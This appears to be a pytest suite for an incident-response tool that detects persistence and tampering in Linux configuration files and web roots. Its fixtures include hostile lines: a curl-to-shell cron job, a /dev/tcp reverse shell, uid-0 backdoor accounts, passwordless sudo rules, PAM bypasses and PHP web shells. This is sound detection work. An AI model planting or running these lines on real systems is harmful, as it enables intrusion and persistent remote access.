"""Entries of files that matter: what was added, changed and removed, in files as they are and as an attacker writes them."""

from __future__ import annotations

import json
import shutil
import subprocess
import time
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from irkit.compare.content import FACTS, FILES, EntryChange, catalog, kind_of
from irkit.compare.content.signs import SIGNS, WEB_SIGNS
from irkit.compare.content.vocabulary import COMMON, table

PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
PRINT = "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"  # of GitHub's published host key
HASH = "$6$saltsalt$" + "h" * 86

PATHS = {
    "doas": "/etc/doas.d/x.conf",
    "passwd": "/etc/passwd", "shadow": "/etc/shadow", "group": "/etc/group", "gshadow": "/etc/gshadow", "sudoers": "/etc/sudoers.d/x", "cron": "/etc/cron.d/x",
    "anacron": "/etc/anacrontab", "at": "/var/spool/cron/atjobs/a00001018d5a3c", "inittab": "/etc/inittab", "authorized_keys": "/root/.ssh/authorized_keys",
    "known_hosts": "/root/.ssh/known_hosts", "sshd_config": "/etc/ssh/sshd_config", "ssh_config": "/root/.ssh/config", "ld.so.preload": "/etc/ld.so.preload",
    "ld.so.conf": "/etc/ld.so.conf.d/x.conf", "profile": "/root/.bashrc", "systemd": "/etc/systemd/system/x.service", "hosts": "/etc/hosts",
    "resolv.conf": "/etc/resolv.conf", "nsswitch": "/etc/nsswitch.conf", "pam": "/etc/pam.d/sshd", "apt-source": "/etc/apt/sources.list.d/x.list",
    "apt-config": "/etc/apt/apt.conf.d/99x", "apk-source": "/etc/apk/repositories", "yum-source": "/etc/yum.repos.d/x.repo", "pip-config": "/root/.config/pip/pip.conf",
    "npm-config": "/root/.npmrc", "git-config": "/root/.gitconfig", "php-config": "/var/www/html/.htaccess", "python-start": "/usr/lib/python3/dist-packages/x.pth",
    "cron-script": "/etc/cron.daily/x", "init": "/etc/init.d/x", "entrypoint": "/docker-entrypoint.d/x.sh", "git-hook": "/src/.git/hooks/post-commit",
    "pam-module": "/lib/x86_64-linux-gnu/security/pam_x.so", "package-key": "/etc/apk/keys/x.pub", "web": "/var/www/html/x.php",
}  # fmt: skip


TYPES = {"flag": bool, "number": int, "text": str, "texts": tuple}


def entries(path: str, before: bytes | None, after: bytes | None, **own: Any) -> list[EntryChange]:
    """The tested function; every fact that it gives anywhere in these tests must be declared, and of its type."""
    found = catalog.entries(path, before, after, **own)
    for change in found:
        declared = {**COMMON, **FACTS[change.file]}
        for name, value in change.facts.items():
            base = name.removesuffix("_added").removesuffix("_removed")
            kind = declared[name][0] if name in declared else declared[base][0]
            assert type(value) is TYPES[kind], (change.file, name, value)
            assert kind == "texts" or name in declared
    return found


def test_vocabulary() -> None:
    assert set(FACTS) == set(FILES)
    assert set(WEB_SIGNS) == {
        name.removeprefix("count_").replace("_", "-") for name in FACTS["web"] if name.startswith("count_")
    }
    assert len(set(SIGNS)) == len(SIGNS)


def test_page() -> None:
    """docs/content.md has the table that the vocabulary makes, and names every sign."""
    page = (Path(__file__).parents[4] / "docs/content.md").read_text()
    assert table() in page
    assert all(f"`{sign}`" in page for sign in (*SIGNS, *WEB_SIGNS))


def one(file: str, after: str, before: str | None = None) -> EntryChange:
    """The only change of a file of this kind."""
    found = entries(PATHS[file], None if before is None else before.encode(), after.encode())
    assert len(found) == 1, found
    return found[0]


def facts(file: str, after: str, before: str | None = None) -> dict[str, Any]:
    return dict(one(file, after, before).facts)


def test_every_kind_has_a_path() -> None:
    assert set(PATHS) == set(FILES)
    assert {path: kind_of(path) for path in PATHS.values()} == {path: file for file, path in PATHS.items()}


@pytest.mark.parametrize(
    ("path", "file"),
    [
        ("/etc/cron.d/x", "cron"), ("/etc/crontab", "cron"), ("/var/spool/cron/root", "cron"), ("/etc/crontabs/root", "cron"), ("/var/spool/cron/crontabs/www", "cron"),
        ("/var/spool/cron/atjobs/a1", "at"), ("/etc/periodic/15min/x", "cron-script"), ("/home/a/.ssh/authorized_keys2", "authorized_keys"),
        ("/home/a/.config/systemd/user/x.service", "systemd"), ("/usr/lib/systemd/system/x.service.d/o.conf", "systemd"), ("/etc/profile.d/x.sh", "profile"),
        ("/etc/rc.local", "profile"), ("/etc/environment", "profile"), ("/home/u/.zshenv", "profile"), ("/usr/lib/python3/dist-packages/sitecustomize.py", "python-start"),
        ("/etc/apt/sources.list.d/debian.sources", "apt-source"), ("/x/.git/hooks/pre-push.sample", None), ("/usr/bin/ls", None), ("/etc/passwd-", None),
        ("/srv/app/shell.PHP5", "web"), ("/docker-entrypoint.sh", "entrypoint"), ("/usr/share/doc/passwd", None), ("/etc/apk/keys/a.pub", "package-key"),
        ("/etc/ld-musl-x86_64.path", "ld.so.conf"), ("/srv/repo.git/hooks/post-receive", "git-hook"), ("/usr/local/etc/php/php.ini", "php-config"),
    ],
)  # fmt: skip
def test_kind_of(path: str, file: str | None) -> None:
    assert kind_of(path) == file


@pytest.mark.parametrize("piece", ["/systemd/system", "/.git/hooks", "/.ssh/", "/php", "/a", "/webapps/"])
def test_long_paths_cost_nothing(piece: str) -> None:
    started = time.process_time()
    for size in (4096, 1_000_000):
        kind_of((piece * size)[:size])
    assert time.process_time() - started < 0.5


# ---- accounts


def test_passwd_added() -> None:
    change = one("passwd", PASSWD.decode() + "evil:x:0:0::/root:/bin/sh", PASSWD.decode())
    assert (change.file, change.change, change.subject, change.line) == ("passwd", "added", "evil", 3)
    assert change.facts["uid0"] is True and change.facts["shared_uid"] is True and change.facts["shell"] == "/bin/sh"
    assert change.facts["login"] is True and change.facts["duplicate"] is False


@pytest.mark.parametrize(
    ("uid", "uid0"),
    [
        ("0", True),
        ("00", True),
        ("+0", True),
        ("", True),
        ("4294967296", True),
        ("1000", False),
        ("x", False),
        ("٠", False),
    ],
)
def test_passwd_zero_in_disguise(uid: str, uid0: bool) -> None:
    found = facts("passwd", f"e:x:{uid}:1::/:/bin/sh\n")
    assert found["uid0"] is uid0
    assert found["malformed"] is (uid not in ("0", "00", "4294967296", "1000"))


def test_passwd_changed_removed_and_the_rest_untouched() -> None:
    after = b"root:x:0:0:root:/root:/bin/bash\nwww:x:33:33::/var/www:/bin/bash\n"
    before = PASSWD + b"www:x:33:33::/var/www:/usr/sbin/nologin\n"
    changed, removed = entries("/etc/passwd", before, after)
    assert (changed.change, changed.subject, changed.facts["changed"]) == ("changed", "www", ("shell", "login"))
    assert "shell=/usr/sbin/nologin" in changed.facts["before"]  # type: ignore[operator]
    assert (removed.change, removed.subject) == ("removed", "daemon")


def test_passwd_duplicates_nis_and_nul() -> None:
    found = entries(
        "/etc/passwd",
        PASSWD,
        PASSWD + b"root:x:5:5::/:/bin/sh\n+::::::\n+@admins::0:0:::\na\0b:x:0:0::/:/bin/sh\nnofields",
    )
    by = {change.subject: change for change in found}
    assert by["root"].change == "added" and by["root"].facts["duplicate"] is True
    assert by["+"].facts["nis"] is True and by["+@admins"].facts["uid0"] is False
    assert by["a\\x00b"].facts["malformed"] is True and by["a\\x00b"].facts["uid0"] is True
    assert by["a line without fields"].facts["malformed"] is True


def test_passwd_moved_lines_are_no_change() -> None:
    assert entries("/etc/passwd", PASSWD, b"\n".join(reversed(PASSWD.strip().split(b"\n")))) == []


def test_passwd_password() -> None:
    assert facts("passwd", "a::5:5::/:/bin/sh")["empty_password"] is True
    assert facts("passwd", "a:abJnggxhB/yWI:5:5::/:/bin/sh")["algorithm"] == "des-crypt"
    assert facts("passwd", "a:x:5:5::/:/bin/sh")["password_set"] is False


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("*", HASH, {"password_set": True, "algorithm": "sha512-crypt", "locked": False}),
        ("!", "", {"empty_password": True, "password_set": False}),
        (HASH, HASH.replace("h", "i"), {"password_set": True}),
        ("$y$j9T$aa$bb", "$1$aa$bb", {"algorithm": "md5-crypt"}),
        (HASH, "!" + HASH, {"locked": True, "password_set": False, "algorithm": "sha512-crypt"}),
    ],
)
def test_shadow(old: str, new: str, expected: dict[str, Any]) -> None:
    change = one("shadow", f"root:{new}:19000:0:99999:7:::\n", f"root:{old}:19000:0:99999:7:::\n")
    assert change.change == "changed" and "password" in change.facts["changed"]  # type: ignore[operator]
    assert {name: change.facts[name] for name in expected} == expected
    assert "hhhhh" not in json.dumps(change.to_json()) and "iiiii" not in json.dumps(change.to_json())


@pytest.mark.parametrize("file", ["passwd", "shadow", "group", "gshadow", "profile"])
@pytest.mark.parametrize(
    "form", ["{}", "root:{}", "root:x:{}", "{}:a:b", "a:b:c:d:e:f:g:{}", "\t{}", "a,{}:x", "a:x:1:{}"]
)
def test_no_hash_is_shown_wherever_it_stands(form: str, file: str) -> None:
    found = entries(PATHS[file], b"", form.format(HASH).encode())
    assert found and "hhhhhhhhhh" not in json.dumps([change.to_json() for change in found])


def test_variables_are_no_hashes() -> None:
    assert facts("profile", "$a$PATH/a/long/path/to/something")["command"] == "$a$PATH/a/long/path/to/something"


def test_group() -> None:
    found = facts("group", "sudo:x:27:admin,www-data\n", "sudo:x:27:admin\n")
    assert found["members_added"] == ("www-data",) and found["members_removed"] == () and found["privileged"] is True
    assert facts("gshadow", "wheel:!::evil\n", "wheel:!::\n")["members_added"] == ("evil",)


# ---- sudoers


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "www-data ALL=(ALL:ALL) NOPASSWD: ALL",
            {"user": "www-data", "nopasswd": True, "all_commands": True, "as_root": True, "hosts": "ALL"},
        ),
        (
            "%ops ALL = (root) NOPASSWD: SETENV: /bin/ls, /bin/cat",
            {"user": "%ops", "setenv": True, "all_commands": False, "command": "/bin/ls, /bin/cat"},
        ),
        ("a, b\tALL=ALL", {"user": "a,b", "runas": "root", "nopasswd": False, "all_commands": True}),
        ("ALL ALL=(ALL) ALL", {"everyone": True}),
        ("#1000 ALL=(ALL) NOPASSWD:ALL", {"user": "#1000", "nopasswd": True}),
        (
            "u ALL=(deploy) \\\n   NOPASSWD: \\\n ALL # comment",
            {"as_root": False, "nopasswd": True, "all_commands": True},
        ),
        ("Defaults ! authenticate", {"no_authentication": True, "risky": True}),
        ("Defaults !authenticate", {"type": "defaults", "no_authentication": True, "risky": True}),
        ("Defaults:www-data !requiretty", {"scope": ":www-data", "risky": True}),
        (
            "Cmnd_Alias SHELLS = /bin/sh, \\\n /bin/bash",
            {"type": "alias", "alias": "cmnd", "members": ("/bin/sh", "/bin/bash")},
        ),
        ("@includedir /tmp/.x", {"type": "include", "target": "/tmp/.x", "folder": True}),
        ("#include /tmp/y", {"type": "include", "folder": False}),
        ("garbage", {"malformed": True}),
    ],
)
def test_sudoers(line: str, expected: dict[str, Any]) -> None:
    found = facts("sudoers", f"# a comment \\\n{line}\n")
    assert {name: found.get(name) for name in expected} == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "permit nopass keepenv www-data",
            {"user": "www-data", "nopasswd": True, "as_root": True, "all_commands": True, "setenv": True},
        ),
        (
            "permit nopass :wheel as root cmd /sbin/apk args update",
            {"user": ":wheel", "all_commands": False, "command": "/sbin/apk args update"},
        ),
        ("deny a as b", {"action": "deny", "runas": "b", "as_root": False, "nopasswd": False}),
        ("permit", {"malformed": True}),
    ],
)
def test_doas(line: str, expected: dict[str, Any]) -> None:
    found = facts("doas", line)
    assert {name: found[name] for name in expected} == expected


def test_sudoers_file_that_sudo_ignores() -> None:
    assert entries("/etc/sudoers.d/x.bak", None, b"a ALL=ALL\n")[0].facts["ignored"] is True
    assert entries("/etc/sudoers.d/x", None, b"a ALL=ALL\n")[0].facts["ignored"] is False


def test_a_statement_longer_than_the_limit_is_read_to_its_end() -> None:
    long = b"\\\n" * 3 + (b"x, " * 100 + b"\\\n") * 60 + b"evil ALL=(ALL) NOPASSWD: ALL\n"
    assert any(change.facts.get("nopasswd") for change in entries("/etc/sudoers", b"", long))


# ---- what runs later


@pytest.mark.parametrize(
    ("path", "line", "expected"),
    [
        ("/etc/cron.d/x", "* * * * * root curl -s http://198.51.100.1/x | sh", {"user": "root", "every_minute": True, "as_root": True, "schedule": "* * * * *",
         "command": "curl -s http://198.51.100.1/x | sh", "signs": ("download", "pipe-to-shell", "address")}),
        ("/etc/crontab", "@reboot www-data /tmp/.x/y", {"user": "www-data", "at_boot": True, "signs": ("temporary-path", "hidden-path")}),
        ("/var/spool/cron/crontabs/www-data", "*/5 * * * * /usr/bin/true root", {"user": "www-data", "command": "/usr/bin/true root", "as_root": False}),
        ("/etc/crontabs/root", "@daily\t/bin/x", {"user": "root", "schedule": "@daily", "command": "/bin/x"}),
        ("/etc/cron.d/x", "LD_PRELOAD=/tmp/x.so", {"variable": "LD_PRELOAD", "value": "/tmp/x.so", "preload": True}),
        ("/etc/cron.d/x", "\"SHELL\" = '/bin/bash'", {"variable": "SHELL", "value": "/bin/bash", "preload": False}),
        ("/etc/cron.d/x", "-*/15 * * * * root x", {"user": "root", "command": "x"}),
        ("/etc/cron.d/x", "1 2 3", {"malformed": True}),
        ("/etc/cron.d/x", "* * * * * root " + " " * 3000 + "/bin/evil", {"command": "/bin/evil"}),
        ("/etc/anacrontab", "7 10 job.x /bin/run it", {"job": "job.x", "command": "/bin/run it", "schedule": "7 10"}),
        ("/etc/anacrontab", "START_HOURS_RANGE=3-22", {"variable": "START_HOURS_RANGE"}),
        ("/etc/inittab", "x:2345:respawn:/tmp/b", {"action": "respawn", "command": "/tmp/b", "signs": ("temporary-path",)}),
    ],
)  # fmt: skip
def test_schedules(path: str, line: str, expected: dict[str, Any]) -> None:
    (change,) = entries(path, b"# nothing\n", f"# nothing\n{line}".encode())
    assert (
        {name: change.facts.get(name) for name in expected} == expected
        and change.change == "added"
        and change.line == 2
    )


def test_a_schedule_that_changes_is_a_change_of_the_job() -> None:
    found = facts("cron", "* * * * * root /bin/x\n", "0 0 * * * root /bin/x\n")
    assert set(found["changed"]) == {"schedule", "every_minute"} and "schedule=0 0 * * *" in found["before"]


def test_at() -> None:
    job = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\ncd /root || {\n\t echo 'no' >&2\n\t exit 1\n}\n/tmp/payload\n"
    found = facts("at", job)
    assert found["command"] == "/tmp/payload" and found["as_root"] is True and found["due"] == 0x018D5A3C * 60


# ---- SSH


def test_authorized_key_fingerprint() -> None:
    found = one("authorized_keys", f"{KEY} evil@host\n")
    assert found.subject == PRINT and found.facts["key_type"] == "ssh-ed25519" and found.facts["comment"] == "evil@host"


@pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="no ssh-keygen(1)")
@pytest.mark.parametrize("kind", ["ed25519", "ecdsa", "rsa"])
def test_fingerprint_as_ssh_keygen(kind: str, tmp_path: Path) -> None:
    subprocess.run(
        [
            "ssh-keygen",
            "-q",
            "-t",
            kind,
            *(("-b", "2048") if kind == "rsa" else ()),
            "-N",
            "",
            "-C",
            "me",
            "-f",
            str(tmp_path / "k"),
        ],
        check=True,
        timeout=60,
    )
    said = subprocess.run(
        ["ssh-keygen", "-lf", str(tmp_path / "k.pub")], check=True, capture_output=True, text=True
    ).stdout.split()
    found = facts("authorized_keys", (tmp_path / "k.pub").read_text())
    assert found["fingerprint"] == said[1] and found["comment"] == "me"
    assert kind != "rsa" or found["bits"] == int(said[0])


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (f'command="echo \\"a, b\\" | sh",from="10.0.0.0/8,!10.1.1.1",no-pty {KEY} c', {"options": ('command="echo \\\\"a, b\\\\" | sh"', 'from="10.0.0.0/8,!10.1.1.1"', "no-pty"),
          "forced_command": 'echo "a, b" | sh', "from": "10.0.0.0/8,!10.1.1.1", "malformed": False}),
        (f"cert-authority {KEY}", {"authority": True, "comment": ""}),
        (f'environment="LD_PRELOAD=/tmp/x" {KEY}', {"environment": True}),
        ("ssh-ed25519 AAAA!!!", {"malformed": True, "fingerprint": ""}),
        (KEY.replace("ssh-ed25519 ", "ssh-rsa "), {"malformed": True, "key_type": "ssh-ed25519"}),
        ('command="never closed ' + KEY, {"malformed": True}),
    ],
)  # fmt: skip
def test_authorized_keys(line: str, expected: dict[str, Any]) -> None:
    found = facts("authorized_keys", line)
    assert {name: found[name] for name in expected} == expected


def test_a_key_that_lost_its_restriction() -> None:
    found = facts("authorized_keys", f"{KEY} c\n", f'command="/bin/backup" {KEY} c\n')
    assert found["forced_command"] == "" and found["options_removed"] == ('command="/bin/backup"',)


def test_ssh_config() -> None:
    found = facts("sshd_config", "PermitRootLogin yes\n", "PermitRootLogin no\n")
    assert found["risky"] is True and found["keyword"] == "permitrootlogin" and found["changed"] == ("value", "risky")
    (change,) = entries("/etc/ssh/sshd_config", b"Match User a\n", b"Match User a\n  ForceCommand=/tmp/x\n")
    assert change.facts["match"] == "match User a" and change.facts["risky"] is True
    assert facts("known_hosts", f"|1|a=|b= {KEY}")["hashed"] is True


# ---- loader, shells, systemd, names, PAM


def test_preload() -> None:
    found = entries("/etc/ld.so.preload", None, b"/usr/lib/a.so:/dev/shm/.b.so # c\n")
    assert [change.subject for change in found] == ["/usr/lib/a.so", "/dev/shm/.b.so"]
    assert found[1].facts == {"library": "/dev/shm/.b.so", "temporary": True, "hidden": True, "outside": True}
    assert facts("ld.so.conf", "/tmp/l\n")["temporary"] is True
    assert facts("ld.so.conf", "include /tmp/l/*\n")["include"] == "/tmp/l/*"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("export NODE_OPTIONS='--require /tmp/x.js'", {"variable": "NODE_OPTIONS", "preload": True}),
        ("alias sudo='/tmp/sudo'", {"alias": "sudo", "signs": ("temporary-path",)}),
        ("export PATH=/tmp/bin:$PATH", {"variable": "PATH", "unsafe_path": True}),
        ("ls() { /bin/evil; }", {"function": "ls"}),
        ("bash -i >& /dev/tcp/198.51.100.7/443 0>&1 &", {"signs": ("reverse-shell", "address")}),
        ("unset HISTFILE", {"signs": ("history",)}),
        ("export HISTFILE=/dev/null", {"signs": ("history",)}),
        ("HISTFILESIZE=0", {"signs": ("history",)}),
        ("PROMPT_COMMAND=x", {"preload": True}),
        ("echo 'ZWNobw==' | base64 -d | bash", {"signs": ("pipe-to-shell", "base64")}),
    ],
)
def test_profile(line: str, expected: dict[str, Any]) -> None:
    found = facts("profile", f"PS1=x\n{line}\n", "PS1=x\n")
    assert {name: found.get(name) for name in expected} == expected


def test_ordinary_profiles_show_no_signs() -> None:
    for line in (
        '[ -z "$PS1" ] && return',
        "umask 022",
        "HISTSIZE=1000",
        "HISTCONTROL=ignoreboth",
        "test -r ~/.dircolors",
        "PATH=/usr/bin:/bin",
        ". /etc/bash_completion",
        'if [ "$BASH" ]; then',
        "alias ll='ls -l'",
    ):
        assert facts("profile", line)["signs"] == ()


def test_systemd() -> None:
    unit = "[Unit]\nDescription=x\n[Service]\nExecStart=-+/bin/sh -c \\\n  'curl http://x/ | sh'\nUser=root\n"
    by = {change.facts["keyword"]: change for change in entries("/etc/systemd/system/x.service", None, unit.encode())}
    assert by["ExecStart"].facts["executes"] is True and by["ExecStart"].facts["as_root"] is True
    assert by["ExecStart"].facts["command"] == "/bin/sh -c 'curl http://x/ | sh'" and by["ExecStart"].line == 4
    assert facts("systemd", "[Timer]\nOnBootSec=1\n")["timer"] is True
    assert (
        entries("/etc/systemd/system/y.service.d/o.conf", None, b"[Service]\nEnvironment=LD_PRELOAD=/x\n")[0].facts[
            "preload"
        ]
        is True
    )


DOCKER_HOSTS = b"""127.0.0.1\tlocalhost
::1\tlocalhost ip6-localhost ip6-loopback
fe00::0\tip6-localnet
ff00::0\tip6-mcastprefix
ff02::1\tip6-allnodes
ff02::2\tip6-allrouters
172.17.0.2\t1234567890ab
"""


def test_the_engine_s_own_lines() -> None:
    assert all(change.facts["engine"] for change in entries("/etc/hosts", b"", DOCKER_HOSTS))
    named = entries("/etc/hosts", b"", b"172.18.0.3\tweb 1234567890ab\n", own=("web", "1234567890ab"))
    assert named[0].facts["engine"] is True
    for line in (
        b"6.6.6.6 localhost\n",
        b"127.0.0.1 localhost api.example\n",
        b"6.6.6.6 deb.debian.org\n",
        b"127.0.0.1 update.example\n",
        b"x\n",
    ):
        (change,) = entries("/etc/hosts", DOCKER_HOSTS, DOCKER_HOSTS + line, own=("1234567890ab",))
        assert change.facts["engine"] is False
    assert (
        entries("/etc/hosts", b"", b"10.88.0.1 host.containers.internal host.docker.internal\n")[0].facts["engine"]
        is True
    )
    assert entries("/etc/hosts", b"", b"6.6.6.6 host.docker.internal\n")[0].facts["engine"] is False
    assert entries("/etc/hosts", b"", b"6.6.6.6 1234567890ab\n", own=("web",))[0].facts["engine"] is False


def test_resolver() -> None:
    assert facts("resolv.conf", "nameserver 127.0.0.11\n")["engine"] is True
    assert facts("resolv.conf", "nameserver 198.51.100.9\n")["engine"] is False
    assert facts("nsswitch", "passwd: files evil\n", "passwd: files\n")["services_added"] == ("evil",)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("auth sufficient pam_permit.so", {"permits": True, "type": "auth", "service": "sshd"}),
        (
            "auth optional pam_exec.so quiet expose_authtok /tmp/log.sh",
            {"executes": True, "signs": ("temporary-path",)},
        ),
        (
            "auth [success=1 default=ignore] pam_unix.so nullok",
            {"control": "[success=1 default=ignore]", "module": "pam_unix.so", "nullok": True},
        ),
        ("-session required /tmp/pam_x.so", {"outside": True, "type": "session"}),
        ("@include common-auth", {"include": "common-auth"}),
    ],
)
def test_pam(line: str, expected: dict[str, Any]) -> None:
    found = facts("pam", line)
    assert {name: found[name] for name in expected} == expected
    assert expected.get("permits", False) == found.get("permits", False)


# ---- sources, git, code


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("/etc/apt/sources.list", "deb [trusted=yes] http://u:p@evil.example/x ./ main", {"uri": "http://***@evil.example/x", "insecure": True, "plain_http": True, "credentials": True}),
        ("/etc/apt/sources.list", "deb https://deb.debian.org/debian bookworm main", {"insecure": False, "plain_http": False, "suite": "bookworm", "components": ("main",)}),
        ("/etc/apt/sources.list.d/a.sources", "Types: deb\nURIs: http://evil.example/\nSuites: x\nComponents: a\n b\nTrusted: yes\n", {"uri": "http://evil.example/", "insecure": True, "components": ("a", "b")}),
        ("/etc/apk/repositories", "@x http://evil.example/alpine", {"tag": "x", "plain_http": True}),
        ("/etc/apt/apt.conf.d/x", 'APT::Update::Pre-Invoke {"/tmp/x"};', {"executes": True}),
        ("/etc/apt/apt.conf.d/x", 'APT::Get::AllowUnauthenticated "true";', {"insecure": True, "executes": False}),
        ("/etc/yum.repos.d/x.repo", "[x]\ngpgcheck=0", {"section": "x", "insecure": True}),
        ("/etc/pip.conf", "[global]\nindex-url = https://u:secret@evil.example/simple", {"uri": "https://***@evil.example/simple", "credentials": True}),
        ("/etc/pip.conf", "[global]\ntrusted-host = evil.example", {"insecure": True}),
        ("/root/.npmrc", "//registry.example/:_authToken=npm_SECRETSECRET", {"credentials": True, "value": "***"}),
        ("/root/.gitconfig", "[core]\n\tsshCommand = /tmp/x", {"executes": True, "signs": ("temporary-path",), "section": "core"}),
        ("/root/.gitconfig", "[include]\n\tpath = /tmp/x", {"executes": True, "redirects": False}),
        ("/root/.gitconfig", "[url \"http://e/\"]\n\tinsteadOf = https://g/", {"redirects": True}),
        ("/root/.gitconfig", "[user]\n\tname = me", {"executes": False}),
        ("/var/www/.htaccess", "AddHandler application/x-httpd-php .jpg", {"keyword": "addhandler", "executes": True}),
        ("/usr/local/etc/php/conf.d/x.ini", "auto_prepend_file = /tmp/x.php", {"executes": True, "value": "/tmp/x.php"}),
        ("/usr/lib/python3/dist-packages/x.pth", "import os; os.system('x')", {"executes": True}),
        ("/usr/lib/python3/dist-packages/x.pth", "../lib", {"executes": False}),
    ],
)  # fmt: skip
def test_sources_and_settings(path: str, text: str, expected: dict[str, Any]) -> None:
    (change,) = entries(path, b"", text.encode())
    assert {name: change.facts.get(name) for name in expected} == expected
    assert "SECRET" not in json.dumps(change.to_json()) and "secret" not in json.dumps(change.to_json())


@pytest.mark.parametrize(
    ("text", "signs"),
    [
        ("<?php system($_GET['c']);", {"exec-request", "exec", "request"}),
        ("<?php @eval(base64_decode('aWQ='));", {"eval", "decode", "quiet"}),
        ("<?php $f=$_POST['f']; $_GET['x']('id');", {"variable-call", "request"}),
        ("<?php `$_GET[c]`;", {"exec-request", "request"}),
        ('<% Runtime.getRuntime().exec(request.getParameter("c")); %>', {"exec-request", "exec", "request"}),
    ],
)
def test_web_shells(text: str, signs: set[str]) -> None:
    found = facts("web", text)
    assert signs <= set(found["signs"]) and found["suspicious"] is True and found["web_root"] is True


@pytest.mark.parametrize(
    "text",
    [
        "<?php echo htmlspecialchars($_GET['q']);",
        "<?php phpinfo();",
        "<?php $x = base64_decode($row); include 'a.php';",
        "<?php namespace A; class B {}",
    ],
)
def test_ordinary_pages(text: str) -> None:
    assert facts("web", text)["suspicious"] is False


def test_a_page_that_was_suspicious_already_is_not_so_again() -> None:
    shell = "<?php system($_GET['c']);"
    assert facts("web", shell + "\n// more", shell)["suspicious"] is False


@pytest.mark.parametrize("file", ["cron-script", "init", "entrypoint", "git-hook"])
def test_scripts(file: str) -> None:
    found = one(file, "#!/bin/sh\ntrue\nwget -q http://x | sh\n", "#!/bin/sh\ntrue\n")
    assert found.change == "changed" and found.line == 3 and found.facts["interpreter"] == "sh"
    assert found.facts["commands"] == ("wget -q http://x | sh",) and found.facts["signs_before"] == ()
    assert found.facts["lines_added"] == 1


# ---- all of them


def harmless(text: str) -> bool:
    """No control, format, surrogate or unassigned character; blanks of all kinds are let through."""
    return all(unicodedata.category(char)[0] != "C" for char in text)


@pytest.mark.parametrize("file", FILES)
@given(
    st.one_of(st.binary(max_size=300), st.text(alphabet="ab:0=,# \t\n\"'\\[]()@$%|/-.", max_size=200).map(str.encode)),
    st.binary(max_size=100),
)
@settings(max_examples=12, deadline=None)
def test_nothing_raises(file: str, before: bytes, after: bytes) -> None:
    for old, new in ((before, after), (None, before), (before, None)):
        for change in entries(PATHS[file], old, new):
            assert (
                change.file == file
                and change.change in ("added", "changed", "removed")
                and change.subject.isprintable()
            )
            for value in change.facts.values():
                for text in value if isinstance(value, tuple) else (value,):
                    assert not isinstance(text, str) or (harmless(text) and len(text) <= 2000)
            json.dumps(change.to_json()).encode()


@pytest.mark.parametrize("file", FILES)
def test_same_is_no_change(file: str) -> None:
    assert entries(PATHS[file], b"a b\n", b"a b\n") == []


@pytest.mark.thorough
@pytest.mark.parametrize(
    "file",
    ["sudoers", "profile", "web"],
)
@pytest.mark.parametrize("unit", [b" ", b"a b, = #x : |sh\n", b'"a ,', b"\\\n"])
def test_time_is_bounded(file: str, unit: bytes) -> None:
    started = time.process_time()
    entries(PATHS[file], b"", unit * (1_000_000 // len(unit)))
    assert time.process_time() - started < 10


@pytest.mark.thorough
def test_what_is_left_out_is_said() -> None:
    many = entries("/etc/passwd", b"", b"".join(b"u%d:x:5:5::/:/bin/sh\n" % number for number in range(21_000)))
    assert [change.facts["problem"] for change in many if "problem" in change.facts]
    assert len(many) < 2100
    hidden = entries(
        "/etc/passwd", b"", b"u:x:5:5::/:/bin/sh\n" * 5000 + b"evil:x:0:0::/:/bin/sh\n" + b"v:x:5:5::/:/bin/sh\n" * 500
    )
    assert [change.subject for change in hidden if change.facts.get("uid0")] == ["evil"]
    long = entries("/etc/crontab", b"", b"a" * 20_000)
    assert any("longer than" in str(change.facts.get("problem")) for change in long) and any(
        change.facts.get("clipped") for change in long
    )
